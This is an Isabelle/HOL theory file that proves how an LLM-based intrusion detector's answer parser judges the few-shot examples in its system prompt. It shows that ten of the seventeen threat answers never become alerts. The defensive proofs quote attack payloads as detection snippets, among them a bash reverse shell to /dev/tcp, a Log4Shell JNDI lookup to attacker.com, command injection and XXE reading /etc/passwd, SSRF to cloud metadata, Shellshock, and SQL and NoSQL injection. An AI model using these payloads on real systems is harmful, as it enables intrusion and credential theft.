(* ===== verification/Few_Shot.thy ===== *)
theory Few_Shot
  imports System_Prompt
begin

text \<open>
  What the answer rules of \<^verbatim>\<open>src/llm_inference.cpp\<close> (\<open>judge\<close>) make of the answers that the few-shot examples of its system
  prompt teach: the answers are run against the payload of their own example.  General lemmas on answers of the taught
  layout come first, so that each example is a few evaluations on its strings.
\<close>

section \<open>Examples as flows\<close>

definition example_flow :: "prompt_example \<Rightarrow> flow_data" where
  "example_flow e = make_flow_data\<lparr>flow_id := (flow_id make_flow_data)\<lparr>src_port := bswap16 (word_of_nat (px_sport e)),
     dst_port := bswap16 (word_of_nat (px_dport e))\<rparr>\<rparr>"

definition example_verdict :: "prompt_example \<Rightarrow> verdict" where
  "example_verdict e = judge (example_flow e) (px_payload e) (tl (example_answer e))"

fun verdict_name :: "verdict \<Rightarrow> string" where
  "verdict_name Benign = ''benign''"
| "verdict_name Missing_fields = ''incomplete''"
| "verdict_name Not_in_payload = ''not in payload''"
| "verdict_name False_positive = ''false positive''"
| "verdict_name (Alert _ _ _) = ''alert''"

definition plain_text :: "string \<Rightarrow> bool" where
  "plain_text s = (s \<noteq> [] \<and> dq \<notin> set s \<and> bsl \<notin> set s \<and> CHR ''}'' \<notin> set s)"

lemma read_quoted_plain_text: "dq \<notin> set s \<Longrightarrow> bsl \<notin> set s \<Longrightarrow> read_quoted (s @ dq # y) = Some s"
  by (induction s) (auto simp: read_quoted_plain)

lemma field_at:
  assumes "find_sub (dq # key @ [dq]) json = Some n" and "drop n json = dq # key @ dq # '': '' @ dq # v"
  shows "extract_json_field json key = (case read_quoted v of None \<Rightarrow> [] | Some r \<Rightarrow> r)"
proof -
  have d: "drop (n + length key + 2) json = CHR '':'' # CHR '' '' # dq # v"
    using arg_cong[OF assms(2), of "drop (length key + 2)"] by (simp add: add.commute add.left_commute)
  have len: "n + length key + 2 < length json"
    using d by (metis drop_eq_Nil2 list.distinct(1) not_le)
  have c: "find_from '':'' json (n + length key + 2) = Some (n + length key + 2)"
    using len by (simp only: find_from_def d) simp
  have d1: "drop (n + length key + 3) json = CHR '' '' # dq # v"
    using arg_cong[OF d, of "drop 1"] by (simp add: numeral_eq_Suc)
  have q: "find_from [dq] json (n + length key + 3) = Some (n + length key + 4)"
    using len by (simp only: find_from_def d1) simp
  have "drop (n + length key + 4 + 1) json = v" using arg_cong[OF d1, of "drop 2"] by (simp add: numeral_eq_Suc)
  moreover have "[dq] @ key @ [dq] = dq # key @ [dq]" "n + length key + 2 + 1 = n + length key + 3" by simp_all
  ultimately show ?thesis by (simp only: extract_json_field_def assms(1) c q option.case)
qed

definition answer_prefix :: "string \<Rightarrow> string \<Rightarrow> string" where
  "answer_prefix t sev = ''{'' @ dq # ''threat_type'' @ dq # '': '' @ dq # t @ dq # '', '' @ dq # ''severity'' @ dq # '': '' @
     dq # sev @ dq # '', '' @ dq # ''snippet'' @ dq # '': '' @ [dq]"

lemma answer_text: "''{'' @ answer_of t sev sn = answer_prefix t sev @ sn @ dq # ''}''"
  by (simp add: answer_of_def answer_prefix_def)

text \<open>The first occurrence of a key is followed by \<open>r\<close>; a quoted text other than the key is passed over.\<close>

definition finds :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "finds w s r = (\<exists>n. find_sub (dq # w @ [dq]) s = Some n \<and> drop n s = dq # w @ dq # r)"

lemma finds_here: "finds w (dq # w @ dq # r) r"
  using starts_with_append[of "dq # w @ [dq]" r] unfolding finds_def by (intro exI[of _ 0]) simp

lemma finds_Cons: "finds w s r \<Longrightarrow> a \<noteq> dq \<Longrightarrow> finds w (a # s) r"
  by (auto simp: finds_def)

lemma finds_skip:
  assumes "finds w (dq # y) r" "dq \<notin> set w" "dq \<notin> set k" "k \<noteq> w" "dq \<notin> set g" "\<not> starts_with (w @ [dq]) (g @ dq # y)"
  shows "finds w (dq # k @ dq # g @ dq # y) r"
proof -
  obtain n where n: "find_sub (dq # w @ [dq]) (dq # y) = Some n" "drop n (dq # y) = dq # w @ dq # r"
    using assms(1) by (auto simp: finds_def)
  have "find_sub (dq # w @ [dq]) (dq # g @ dq # y) = map_option Suc (find_sub (dq # w @ [dq]) (g @ dq # y))"
    using assms(6) by simp
  also have "\<dots> = map_option ((+) (Suc (length g))) (find_sub (dq # w @ [dq]) (dq # y))"
    using find_sub_skip[OF assms(5), of "w @ [dq]" "dq # y"] by simp
  finally have f: "find_sub (dq # w @ [dq]) (dq # k @ dq # g @ dq # y) = Some (length k + length g + 2 + n)"
    using find_sub_skip_key[OF assms(2,3,4), of "g @ dq # y"] n(1) by simp
  have "drop (length k + length g + 2 + n) (dq # k @ dq # g @ dq # y) = drop n (dq # y)" by simp
  then have "drop (length k + length g + 2 + n) (dq # k @ dq # g @ dq # y) = dq # w @ dq # r" unfolding n(2) .
  with f show ?thesis unfolding finds_def by blast
qed

lemma finds_field:
  assumes "finds key json ('': '' @ dq # v)"
  shows "extract_json_field json key = (case read_quoted v of None \<Rightarrow> [] | Some r \<Rightarrow> r)"
  using assms field_at[of key json _ v] by (auto simp: finds_def)

lemma answer_fields:
  assumes "plain_text t" "plain_text sev" "t \<noteq> ''snippet''" "sev \<noteq> ''snippet''" "t \<noteq> ''severity''"
  shows "extract_json_field (answer_prefix t sev @ r) ''threat_type'' = t"
    and "extract_json_field (answer_prefix t sev @ r) ''severity'' = sev"
    and "extract_json_field (answer_prefix t sev @ r) ''snippet'' = (case read_quoted r of None \<Rightarrow> [] | Some s \<Rightarrow> s)"
proof -
  let ?j = "answer_prefix t sev @ r"
  define s3 where "s3 = '': '' @ dq # r"
  define s2 where "s2 = '': '' @ dq # sev @ dq # '', '' @ dq # ''snippet'' @ dq # s3"
  have j: "?j = CHR ''{'' # dq # ''threat_type'' @ dq # '': '' @ dq # t @ dq # '', '' @ dq # ''severity'' @ dq # s2"
    by (simp add: answer_prefix_def s2_def s3_def)
  have dq: "dq \<notin> set t" "dq \<notin> set sev" "bsl \<notin> set t" "bsl \<notin> set sev" using assms by (auto simp: plain_text_def)
  have w: "dq \<notin> set ''severity''" "dq \<notin> set ''snippet''" "dq \<notin> set ''threat_type''" "dq \<notin> set '': ''" "dq \<notin> set '', ''" by simp_all
  have b: "\<not> starts_with (''severity'' @ [dq]) ('': '' @ y)" "\<not> starts_with (''severity'' @ [dq]) ('', '' @ y)"
    "\<not> starts_with (''snippet'' @ [dq]) ('': '' @ y)" "\<not> starts_with (''snippet'' @ [dq]) ('', '' @ y)" for y
    by simp_all
  have ne: "''threat_type'' \<noteq> ''severity''" "''threat_type'' \<noteq> ''snippet''" "''severity'' \<noteq> ''snippet''" "CHR ''{'' \<noteq> dq" by simp_all
  have "finds ''threat_type'' ?j ('': '' @ dq # t @ dq # '', '' @ dq # ''severity'' @ dq # s2)"
    unfolding j by (intro finds_Cons finds_here ne)
  then show "extract_json_field ?j ''threat_type'' = t"
    by (simp only: finds_field read_quoted_plain_text[OF dq(1,3)] option.case)
  have "finds ''severity'' ?j s2"
    unfolding j by (intro finds_Cons finds_skip finds_here ne w b dq assms)
  then show "extract_json_field ?j ''severity'' = sev"
    by (simp only: s2_def finds_field read_quoted_plain_text[OF dq(2,4)] option.case)
  have "finds ''snippet'' (dq # ''severity'' @ dq # s2) s3"
    unfolding s2_def by (intro finds_skip finds_here ne w b dq assms)
  note sev_skip = this
  have "finds ''snippet'' ?j s3"
    unfolding j by (rule finds_Cons, rule finds_skip, rule finds_skip, rule sev_skip) (intro ne w b dq assms)+
  then show "extract_json_field ?j ''snippet'' = (case read_quoted r of None \<Rightarrow> [] | Some s \<Rightarrow> s)"
    unfolding s3_def by (rule finds_field)
qed

lemma first_object_cut:
  assumes "CHR ''}'' \<notin> set x"
  shows "first_object (CHR ''{'' # dq # x @ CHR ''}'' # y) = Some (CHR ''{'' # dq # x @ ''}'')"
proof -
  have "find_sub ''}'' ((CHR ''{'' # dq # x) @ CHR ''}'' # y) = Some (length (CHR ''{'' # dq # x))"
    using find_sub_skip[of "CHR ''}''" "CHR ''{'' # dq # x" "[]" "CHR ''}'' # y"] assms by simp
  moreover have "\<not> json_space dq" by (simp add: json_space_def)
  ultimately show ?thesis by (simp add: first_object_def)
qed

lemma answer_prefix_shape:
  assumes "plain_text t" "plain_text sev"
  obtains x where "answer_prefix t sev = CHR ''{'' # dq # x" "CHR ''}'' \<notin> set x"
proof
  show "answer_prefix t sev = CHR ''{'' # dq # drop 2 (answer_prefix t sev)" "CHR ''}'' \<notin> set (drop 2 (answer_prefix t sev))"
    using assms by (simp_all add: answer_prefix_def plain_text_def)
qed

definition teachable :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "teachable t sev = (plain_text t \<and> plain_text sev \<and> t \<noteq> ''snippet'' \<and> sev \<noteq> ''snippet'' \<and> t \<noteq> ''severity'' \<and> canonical_threat t = t)"

lemma example_answer_brace: "CHR ''{'' # tl (example_answer e) = example_answer e"
  by (simp add: example_answer_def split: option.split)

lemma verdict_cut:
  assumes "px_answer e = Some (t, sev, p @ CHR ''}'' # q)" "teachable t sev" "CHR ''}'' \<notin> set p"
    "read_quoted (p @ ''}'') = None"
  shows "example_verdict e = Missing_fields"
proof -
  obtain x where x: "answer_prefix t sev = CHR ''{'' # dq # x" "CHR ''}'' \<notin> set x"
    using assms(2) answer_prefix_shape unfolding teachable_def by blast
  have "example_answer e = CHR ''{'' # dq # (x @ p) @ CHR ''}'' # q @ dq # ''}''"
    using answer_text[of t sev "p @ CHR ''}'' # q"] by (simp add: example_answer_def assms(1) x(1))
  then have f: "first_object (example_answer e) = Some (answer_prefix t sev @ p @ ''}'')"
    using first_object_cut[of "x @ p" "q @ dq # ''}''"] x assms(3) by simp
  have "extract_json_field (answer_prefix t sev @ p @ ''}'') ''snippet'' = []"
    using assms(2,4) by (simp add: answer_fields(3) teachable_def)
  then show ?thesis
    by (simp add: example_verdict_def judge_def example_answer_brace f Let_def)
qed

lemma verdict_whole:
  assumes "px_answer e = Some (t, sev, sn)" "teachable t sev" "CHR ''}'' \<notin> set sn" "read_quoted (sn @ dq # ''}'') = Some d" "d \<noteq> []"
  shows "example_verdict e =
    (if \<not> payload_contains_snippet (px_payload e) d then Not_in_payload
     else if is_false_positive t d (px_payload e) (example_flow e) then False_positive else Alert t (resolve_severity t sev) d)"
proof -
  obtain x where x: "answer_prefix t sev = CHR ''{'' # dq # x" "CHR ''}'' \<notin> set x"
    using assms(2) answer_prefix_shape unfolding teachable_def by blast
  have a: "example_answer e = answer_prefix t sev @ sn @ dq # ''}''"
    using answer_text[of t sev sn] by (simp add: example_answer_def assms(1))
  have f: "first_object (example_answer e) = Some (example_answer e)"
    using first_object_cut[of "x @ sn @ [dq]" "[]"] x assms(3) by (simp add: a)
  have t: "plain_text t" "plain_text sev" "t \<noteq> ''snippet''" "sev \<noteq> ''snippet''" "t \<noteq> ''severity''" "canonical_threat t = t" "t \<noteq> []" "sev \<noteq> []"
    using assms(2) by (auto simp: teachable_def plain_text_def)
  have e: "extract_json_field (example_answer e) ''threat_type'' = t" "extract_json_field (example_answer e) ''severity'' = sev"
    "extract_json_field (example_answer e) ''snippet'' = d"
    using answer_fields[OF t(1-5), of "sn @ dq # ''}''"] assms(4) by (simp_all add: a)
  show ?thesis
    using t assms(5) by (simp add: example_verdict_def judge_def example_answer_brace f e Let_def)
qed


lemma verdict_silent: "px_answer e = None \<Longrightarrow> example_verdict e = Benign"
  by (simp add: example_verdict_def judge_def example_answer_brace) (simp add: example_answer_def first_object_def)

text \<open>A snippet with dots between two passages is in no payload without three dots.\<close>

lemma lower_char_dot: "lower_char c = CHR ''.'' \<longleftrightarrow> c = CHR ''.''"
proof -
  have "char_of (of_char c + 32 :: nat) \<noteq> CHR ''.''" if "65 \<le> (of_char c :: nat)" "of_char c \<le> (90 :: nat)"
  proof
    assume "char_of (of_char c + 32 :: nat) = CHR ''.''"
    then have "(of_char (char_of (of_char c + 32 :: nat) :: char) :: nat) = 46" by simp
    with that show False by simp
  qed
  then show ?thesis by (auto simp: lower_char_def Let_def)
qed

lemma starts_lower_dots: "starts_with ''...'' (to_lower s) \<longleftrightarrow> starts_with ''...'' s"
  by (cases s; cases "tl s"; cases "tl (tl s)") (auto simp: to_lower_def lower_char_dot eq_commute[of "CHR ''.''"])

lemma contains_lower_dots: "contains (to_lower s) ''...'' \<longleftrightarrow> contains s ''...''"
proof (induction s)
  case (Cons c s)
  have "to_lower (c # s) = lower_char c # to_lower s" by (simp add: to_lower_def)
  with Cons starts_lower_dots[of "c # s"] show ?case by (simp only: contains_Cons)
qed (simp add: to_lower_def)

lemma contains_trans: "contains s u \<Longrightarrow> contains u v \<Longrightarrow> contains s v"
  unfolding contains_sublist by (rule sublist_order.order_trans)

lemma dots_not_in_payload: "\<not> contains p ''...'' \<Longrightarrow> contains sn ''...'' \<Longrightarrow> \<not> payload_contains_snippet p sn"
  using contains_trans[of p sn "''...''"] contains_trans[of "to_lower p" "to_lower sn" "''...''"]
  by (auto simp: payload_contains_snippet_def contains_lower_dots)

text \<open>The examples with a threat are requests from a client port.\<close>

lemma not_only_in_headers:
  assumes "\<not> starts_with ''HTTP/'' p"
  shows "\<not> only_in_headers p sn"
proof -
  have "take 5 p \<noteq> ''HTTP/''"
  proof
    assume "take 5 p = ''HTTP/''"
    then have "p = ''HTTP/'' @ drop 5 p" using append_take_drop_id[of 5 p] by simp
    with assms show False using starts_with_append[of "''HTTP/''" "drop 5 p"] by metis
  qed
  then show ?thesis by (simp add: only_in_headers_def)
qed

definition from_client :: "prompt_example \<Rightarrow> bool" where
  "from_client e = (\<not> starts_with ''HTTP/'' (px_payload e) \<and> \<not> is_server_port (word_of_nat (px_sport e)))"

definition well_put :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "well_put t sn = (\<not> list_ex (\<lambda>p. starts_with p sn) benign_header_prefixes \<and>
     (t = ''Data Exfiltration'' \<or> t = ''Credential Theft'' \<or> has_attack_syntax sn))"

lemma false_positive_example:
  assumes "from_client e" "\<not> list_ex (\<lambda>p. starts_with p sn) benign_header_prefixes"
  shows "is_false_positive t sn (px_payload e) (example_flow e) \<longleftrightarrow> \<not> well_put t sn"
  using assms not_only_in_headers[of "px_payload e" sn]
  by (auto simp: is_false_positive_def from_client_def example_flow_def well_put_def)

lemma verdict_client:
  assumes "px_answer e = Some (t, sev, sn)" "teachable t sev" "CHR ''}'' \<notin> set sn" "read_quoted (sn @ dq # ''}'') = Some d" "d \<noteq> []"
    "contains (px_payload e) d" "from_client e" "\<not> list_ex (\<lambda>p. starts_with p d) benign_header_prefixes"
  shows "verdict_name (example_verdict e) = (if well_put t d then ''alert'' else ''false positive'')"
proof -
  have "payload_contains_snippet (px_payload e) d"
    using assms(5,6) by (auto simp: payload_contains_snippet_def)
  then show ?thesis
    by (simp add: verdict_whole[OF assms(1-5)] false_positive_example[OF assms(7,8)])
qed

lemma verdict_unquoted:
  assumes "px_answer e = Some (t, sev, sn)" "teachable t sev" "CHR ''}'' \<notin> set sn" "dq \<notin> set sn" "bsl \<notin> set sn"
    "\<not> contains (px_payload e) ''...''" "contains sn ''...''"
  shows "verdict_name (example_verdict e) = ''not in payload''"
proof -
  have "sn \<noteq> []" using assms(7) by auto
  then show ?thesis
    using dots_not_in_payload[OF assms(6,7)]
    by (simp add: verdict_whole[OF assms(1,2,3) read_quoted_plain_text[OF assms(4,5)]])
qed

lemmas example_eval = contains_Cons sq_def crlf_def nl_def qt_def from_client_def is_server_port_def server_ports_def
  teachable_def plain_text_def canonical_threat_def threat_aliases_def read_quoted_plain unesc_char_def
  well_put_def benign_header_prefixes_def has_attack_syntax_def attack_char_def

lemma ssti_verdict: "verdict_name (example_verdict ssti_example) = ''incomplete''"
  by (subst verdict_cut[where t = "''SSTI''" and sev = "''High''" and p = "''{{1337*1337''" and q = "''}''"])
    (simp_all add: ssti_example_def example_eval)

lemma sqli_verdict: "verdict_name (example_verdict sqli_example) = ''alert''"
  by (subst verdict_client[where t = "''SQLi''" and sev = "''High''" and sn = "[sq] @ '' OR '1'='1''" and d = "[sq] @ '' OR '1'='1''"])
    (simp_all add: sqli_example_def example_eval)

lemma credentials_verdict: "verdict_name (example_verdict credentials_example) = ''not in payload''"
  by (subst verdict_unquoted[where t = "''Data Exfiltration''" and sev = "''Critical''" and sn = "''Username: victim@gmail.com...Password: s3cretP@ss''"])
    (simp_all add: credentials_example_def example_eval)

lemma ftp_stor_verdict: "verdict_name (example_verdict ftp_stor_example) = ''alert''"
  by (subst verdict_client[where t = "''Data Exfiltration''" and sev = "''Critical''" and sn = "''STOR PW_victim-PC_2026_02_03.html''" and d = "''STOR PW_victim-PC_2026_02_03.html''"])
    (simp_all add: ftp_stor_example_def example_eval)

lemma contacts_verdict: "verdict_name (example_verdict contacts_example) = ''not in payload''"
  by (subst verdict_unquoted[where t = "''Data Exfiltration''" and sev = "''High''" and sn = "''alice@gmail.com...john.doe@outlook.com''"])
    (simp_all add: contacts_example_def example_eval)

lemma log4shell_verdict: "verdict_name (example_verdict log4shell_example) = ''incomplete''"
  by (subst verdict_cut[where t = "''Log4Shell''" and sev = "''Critical''" and p = "''${jndi:ldap://attacker.com/a''" and q = "[]"])
    (simp_all add: log4shell_example_def example_eval)

lemma command_injection_verdict: "verdict_name (example_verdict command_injection_example) = ''alert''"
  by (subst verdict_client[where t = "''Command Injection''" and sev = "''Critical''" and sn = "'';cat+/etc/passwd''" and d = "'';cat+/etc/passwd''"])
    (simp_all add: command_injection_example_def example_eval)

lemma path_traversal_verdict: "verdict_name (example_verdict path_traversal_example) = ''alert''"
  by (subst verdict_client[where t = "''Path Traversal''" and sev = "''High''" and sn = "''../../../../etc/passwd''" and d = "''../../../../etc/passwd''"])
    (simp_all add: path_traversal_example_def example_eval)

lemma xxe_verdict: "verdict_name (example_verdict xxe_example) = ''alert''"
  by (subst verdict_client[where t = "''XXE''" and sev = "''High''"
      and sn = "''<!ENTITY xxe SYSTEM '' @ [bsl] @ [dq] @ ''file:///etc/passwd'' @ [bsl] @ [dq] @ ''>''"
      and d = "''<!ENTITY xxe SYSTEM '' @ qt ''file:///etc/passwd'' @ ''>''"])
    (simp_all add: xxe_example_def example_eval)

lemma reverse_shell_verdict: "verdict_name (example_verdict reverse_shell_example) = ''alert''"
  by (subst verdict_client[where t = "''Reverse Shell''" and sev = "''Critical''" and sn = "''bash -i >& /dev/tcp/10.0.0.50/4444 0>&1''" and d = "''bash -i >& /dev/tcp/10.0.0.50/4444 0>&1''"])
    (simp_all add: reverse_shell_example_def example_eval)

lemma cryptominer_verdict: "verdict_name (example_verdict cryptominer_example) = ''false positive''"
  by (subst verdict_client[where t = "''Cryptominer Traffic''" and sev = "''High''" and sn = "''mining.subscribe''" and d = "''mining.subscribe''"])
    (simp_all add: cryptominer_example_def example_eval)

lemma enumeration_verdict: "verdict_name (example_verdict enumeration_example) = ''false positive''"
  by (subst verdict_client[where t = "''Directory Enumeration''" and sev = "''Medium''" and sn = "''/.env''" and d = "''/.env''"])
    (simp_all add: enumeration_example_def example_eval)

lemma light_recon_verdict: "verdict_name (example_verdict light_recon_example) = ''false positive''"
  by (subst verdict_client[where t = "''Directory Enumeration''" and sev = "''Low''" and sn = "''User-Agent: gobuster/3.1''" and d = "''User-Agent: gobuster/3.1''"])
    (simp_all add: light_recon_example_def example_eval)

lemma shellshock_verdict: "verdict_name (example_verdict shellshock_example) = ''incomplete''"
  by (subst verdict_cut[where t = "''Shellshock''" and sev = "''Critical''" and p = "''() { :;''" and q = "''; /bin/bash -c''"])
    (simp_all add: shellshock_example_def example_eval)

lemma ssrf_verdict: "verdict_name (example_verdict ssrf_example) = ''alert''"
  by (subst verdict_client[where t = "''SSRF''" and sev = "''High''" and sn = "''http://169.254.169.254/latest/meta-data/''" and d = "''http://169.254.169.254/latest/meta-data/''"])
    (simp_all add: ssrf_example_def example_eval)

lemma nosql_verdict: "verdict_name (example_verdict nosql_example) = ''incomplete''"
  by (subst verdict_cut[where t = "''NoSQL Injection''" and sev = "''Critical''" and p = "''{'' @ [bsl] @ [dq] @ ''$gt'' @ [bsl] @ [dq] @ '':'' @ [bsl] @ [dq] @ [bsl] @ [dq]" and q = "[]"])
    (simp_all add: nosql_example_def example_eval)

lemma nikto_verdict: "verdict_name (example_verdict nikto_example) = ''false positive''"
  by (subst verdict_client[where t = "''Vulnerability Scanning''" and sev = "''Medium''" and sn = "''Nikto/2.1.6''" and d = "''Nikto/2.1.6''"])
    (simp_all add: nikto_example_def example_eval)

lemmas threat_verdicts = ssti_verdict sqli_verdict credentials_verdict ftp_stor_verdict contacts_verdict log4shell_verdict command_injection_verdict path_traversal_verdict xxe_verdict reverse_shell_verdict cryptominer_verdict enumeration_verdict light_recon_verdict shellshock_verdict ssrf_verdict nosql_verdict nikto_verdict

lemma benign_verdicts:
  "list_all (\<lambda>e. px_answer e = None \<and> example_verdict e = Benign)
     [kerberos_example, spnego_example, http_get_example, redirect_example, dns_example, json_example, security_headers_example, plain_text_example, websocket_example, oauth_example, grpc_example, smtp_example]"
  by (simp add: verdict_silent kerberos_example_def spnego_example_def http_get_example_def redirect_example_def dns_example_def json_example_def security_headers_example_def plain_text_example_def websocket_example_def oauth_example_def grpc_example_def smtp_example_def)

text \<open>
  C21: Reproduced to the letter by the model, ten of the seventeen answers the prompt teaches for a threat never become an
  alert: four are cut at a brace inside the snippet, two quote a snippet with an ellipsis that is in no payload, and
  four are dropped as false positives because the snippet has no attack syntax.  The other seven are alerts and the
  twelve empty answers are benign.
\<close>

theorem few_shot_verdicts:
  "map (\<lambda>e. (map_option fst (px_answer e), verdict_name (example_verdict e))) few_shot =
     [(None, ''benign''),
      (Some ''SSTI'', ''incomplete''),
      (None, ''benign''),
      (None, ''benign''),
      (None, ''benign''),
      (None, ''benign''),
      (None, ''benign''),
      (None, ''benign''),
      (None, ''benign''),
      (Some ''SQLi'', ''alert''),
      (Some ''Data Exfiltration'', ''not in payload''),
      (Some ''Data Exfiltration'', ''alert''),
      (Some ''Data Exfiltration'', ''not in payload''),
      (Some ''Log4Shell'', ''incomplete''),
      (Some ''Command Injection'', ''alert''),
      (Some ''Path Traversal'', ''alert''),
      (Some ''XXE'', ''alert''),
      (Some ''Reverse Shell'', ''alert''),
      (Some ''Cryptominer Traffic'', ''false positive''),
      (Some ''Directory Enumeration'', ''false positive''),
      (Some ''Directory Enumeration'', ''false positive''),
      (None, ''benign''),
      (None, ''benign''),
      (None, ''benign''),
      (Some ''Shellshock'', ''incomplete''),
      (Some ''SSRF'', ''alert''),
      (Some ''NoSQL Injection'', ''incomplete''),
      (Some ''Vulnerability Scanning'', ''false positive''),
      (None, ''benign'')]"
proof -
  have a: "px_answer ssti_example = Some (''SSTI'', ''High'', ''{{1337*1337}}'')" "px_answer sqli_example = Some (''SQLi'', ''High'', [sq] @ '' OR '1'='1'')" "px_answer credentials_example = Some (''Data Exfiltration'', ''Critical'', ''Username: victim@gmail.com...Password: s3cretP@ss'')" "px_answer ftp_stor_example = Some (''Data Exfiltration'', ''Critical'', ''STOR PW_victim-PC_2026_02_03.html'')" "px_answer contacts_example = Some (''Data Exfiltration'', ''High'', ''alice@gmail.com...john.doe@outlook.com'')" "px_answer log4shell_example = Some (''Log4Shell'', ''Critical'', ''${jndi:ldap://attacker.com/a}'')" "px_answer command_injection_example = Some (''Command Injection'', ''Critical'', '';cat+/etc/passwd'')" "px_answer path_traversal_example = Some (''Path Traversal'', ''High'', ''../../../../etc/passwd'')" "px_answer xxe_example = Some (''XXE'', ''High'', ''<!ENTITY xxe SYSTEM '' @ [bsl] @ [dq] @ ''file:///etc/passwd'' @ [bsl] @ [dq] @ ''>'')" "px_answer reverse_shell_example = Some (''Reverse Shell'', ''Critical'', ''bash -i >& /dev/tcp/10.0.0.50/4444 0>&1'')" "px_answer cryptominer_example = Some (''Cryptominer Traffic'', ''High'', ''mining.subscribe'')" "px_answer enumeration_example = Some (''Directory Enumeration'', ''Medium'', ''/.env'')" "px_answer light_recon_example = Some (''Directory Enumeration'', ''Low'', ''User-Agent: gobuster/3.1'')" "px_answer shellshock_example = Some (''Shellshock'', ''Critical'', ''() { :;}; /bin/bash -c'')" "px_answer ssrf_example = Some (''SSRF'', ''High'', ''http://169.254.169.254/latest/meta-data/'')" "px_answer nosql_example = Some (''NoSQL Injection'', ''Critical'', ''{'' @ [bsl] @ [dq] @ ''$gt'' @ [bsl] @ [dq] @ '':'' @ [bsl] @ [dq] @ [bsl] @ [dq] @ ''}'')" "px_answer nikto_example = Some (''Vulnerability Scanning'', ''Medium'', ''Nikto/2.1.6'')"
    by (simp_all add: ssti_example_def sqli_example_def credentials_example_def ftp_stor_example_def contacts_example_def log4shell_example_def command_injection_example_def path_traversal_example_def xxe_example_def reverse_shell_example_def cryptominer_example_def enumeration_example_def light_recon_example_def shellshock_example_def ssrf_example_def nosql_example_def nikto_example_def)
  show ?thesis using benign_verdicts by (simp add: few_shot_def a threat_verdicts)
qed

end
